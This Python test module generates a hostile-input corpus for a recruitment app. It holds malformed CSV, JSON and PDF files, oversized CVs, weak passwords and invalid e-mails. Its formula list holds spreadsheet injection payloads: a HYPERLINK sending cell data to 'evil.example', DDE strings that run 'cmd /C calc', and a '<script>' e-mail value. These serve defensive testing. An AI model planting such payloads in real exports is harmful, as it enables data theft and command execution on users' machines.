"""The hostile-input corpus: files an attacker or an unlucky user would give the app.

Generated, never committed: ``python -m tests.hostile.corpus OUT`` writes every file into
``OUT``; the tests call :func:`generate` on a temporary folder. The hostile values of the
accounts and of grading are constants here, used by ``tests/test_recruitment_security.py``;
the scraper's hostile pages are fixtures of ``tests/test_scraping.py``. Each case is
documented in ``docs/security.md`` with what the app must answer.
"""

from __future__ import annotations

import json
import random
import sys
from collections.abc import Callable
from pathlib import Path

import pandas as pd

#: Words of the generated long texts (French and English job vocabulary).
_WORDS = (
    "python data analyse gestion projet client équipe développement logiciel sql cloud docker "
    "marketing vente comptabilité recrutement paie formation anglais excel power bi java"
).split()

_FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1)',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
)


#: E-mails the accounts refuse, with a word of the refusal (tests/test_recruitment_security.py).
HOSTILE_EMAILS = (
    ("a@b", "should have a period"),
    ("x@y.example<script>", "invalid characters"),
    ("no-at-sign.example", "@-sign"),
    ("", "valid e-mail"),
)
#: Passwords the accounts refuse, with a word of the refusal.
WEAK_PASSWORDS = (
    (" " * 10, "blank"),
    ("\t \n" * 4, "blank"),
    ("short", "at least 10"),
    ("   abc    ", "at least 10"),
    ("password123", "most common"),
    ("MotDePasse", "most common"),
    ("azertyuiop", "most common"),
    ("123456789012", "most common"),
)
#: Multiple-choice answers an older version or a hand-edited table could hold: refused when
#: saved, scored 0 and flagged when graded.
MALFORMED_ANSWERS = ("²", "9", "-1", "1.0", "[0]", '{"a": ', "٣", "None")


def _words(count: int, seed: int) -> str:
    rng = random.Random(seed)
    return " ".join(rng.choice(_WORDS) for _ in range(count))


def _pdf(objects: list[bytes]) -> bytes:
    """A PDF file of these objects (numbered from 1, the catalog first) with a valid xref."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def page_tree_loop_pdf() -> bytes:
    """A PDF whose page tree points back to itself (``/Kids`` holds its own parent)."""
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 1 >>",
        ]
    )


def offers_frame(rows: int, seed: int = 0) -> pd.DataFrame:
    """Offers whose fields hold quotes, newlines, delimiters and accents."""
    rng = random.Random(seed)
    companies = ("Société; Générale", "A,B & C", 'Les "Amis"')
    places = ("Paris", "Lyon\n69000", "Lille\t59")
    return pd.DataFrame(
        {
            "id": [f"o{i}" for i in range(rows)],
            "title": [f'Développeur "senior", niveau {i}' for i in range(rows)],
            "company": [companies[i % 3] for i in range(rows)],
            "location": [places[i % 3] for i in range(rows)],
            "description": [
                f'Mission :\n- "{_words(30, rng.random())}"\n- coût ""élevé"", 3,5 k€; {i}'
                for i in range(rows)
            ],
        }
    )


def _write(folder: Path, name: str, data: bytes | str) -> Path:
    path = folder / name
    if isinstance(data, str):
        path.write_text(data, encoding="utf-8")
    else:
        path.write_bytes(data)
    return path


def _offers_jsonl(offers: list[dict[str, str]]) -> str:
    return "\n".join(json.dumps(offer, ensure_ascii=False) for offer in offers) + "\n"


def _builders() -> dict[str, Callable[[Path], Path]]:
    """Case name → a function writing the case's file into a folder."""
    normal = {"id": "n1", "title": "Data analyst", "company": "ACME", "location": "Paris"}
    return {
        # CVs
        "cv_1mb_single_line.txt": lambda f: _write(
            f, "cv_1mb_single_line.txt", _words(200_000, 1)[:1_000_000]
        ),
        "cv_utf16le_no_bom.txt": lambda f: _write(
            f,
            "cv_utf16le_no_bom.txt",
            "Ingénieure données\nPython, SQL — 5 ans\n".encode("utf-16-le"),
        ),
        "cv_utf16be_no_bom.txt": lambda f: _write(
            f,
            "cv_utf16be_no_bom.txt",
            "Chargé de recrutement\nPaie, formation\n".encode("utf-16-be"),
        ),
        "cv_page_tree_loop.pdf": lambda f: _write(f, "cv_page_tree_loop.pdf", page_tree_loop_pdf()),
        # Offers files
        "offers_pandas.csv": lambda f: _write(
            f, "offers_pandas.csv", offers_frame(40).to_csv(index=False)
        ),
        "offers_ragged.csv": lambda f: _write(
            f, "offers_ragged.csv", "id,title,description\n1,Dev,Python\n2,Ops,Linux,extra\n"
        ),
        "offers_unclosed_quote.csv": lambda f: _write(
            f, "offers_unclosed_quote.csv", 'id,title,description\n1,Dev,"Python\n2,Ops,Linux\n'
        ),
        "offers_deep.json": lambda f: _write(f, "offers_deep.json", "[" * 200_000 + "]" * 200_000),
        "offers_deep.jsonl": lambda f: _write(
            f, "offers_deep.jsonl", '{"a":' * 200_000 + "1" + "}" * 200_000 + "\n"
        ),
        "offers_empty_description.jsonl": lambda f: _write(
            f,
            "offers_empty_description.jsonl",
            _offers_jsonl(
                [
                    {**normal, "description": "Analyse de données, SQL, Python, Power BI."},
                    {"id": "e1", "title": "Comptable", "description": ""},
                    {"id": "e2", "title": "", "description": "   "},
                ]
            ),
        ),
        "offers_5mb_description.jsonl": lambda f: _write(
            f,
            "offers_5mb_description.jsonl",
            _offers_jsonl(
                [
                    {**normal, "description": "Analyse de données, SQL, Python, Power BI."},
                    {"id": "huge", "title": "Chef de projet", "description": _words(900_000, 2)},
                ]
            ),
        ),
        "offers_formulas.csv": lambda f: _write(
            f,
            "offers_formulas.csv",
            pd.DataFrame(
                {
                    "id": [f"f{i}" for i in range(len(_FORMULAS))],
                    "title": list(_FORMULAS),
                    "company": list(reversed(_FORMULAS)),
                    "location": ["Paris"] * len(_FORMULAS),
                    "description": [f"Python SQL {formula}" for formula in _FORMULAS],
                }
            ).to_csv(index=False),
        ),
        "offers_france_travail.json": lambda f: _write(
            f,
            "offers_france_travail.json",
            json.dumps(
                [
                    {
                        "id": "180ABC",
                        "intitule": "Comptable (H/F)",
                        "description": "Tenue de la comptabilité, paie, déclarations.",
                        "entreprise": {"nom": "Cabinet Durand"},
                        "lieuTravail": {"libelle": "69 - Lyon"},
                    }
                ],
                ensure_ascii=False,
            ),
        ),
    }


#: Every generated case, by file name.
CASES = tuple(_builders())


def generate(folder: Path) -> dict[str, Path]:
    """Write every case into ``folder`` (created if needed); returns case name → path."""
    folder.mkdir(parents=True, exist_ok=True)
    return {name: build(folder) for name, build in _builders().items()}


if __name__ == "__main__":
    if len(sys.argv) != 2:
        raise SystemExit("usage: python -m tests.hostile.corpus OUT_FOLDER")
    for name, path in generate(Path(sys.argv[1])).items():
        print(f"{path.stat().st_size:>10,}  {name}")
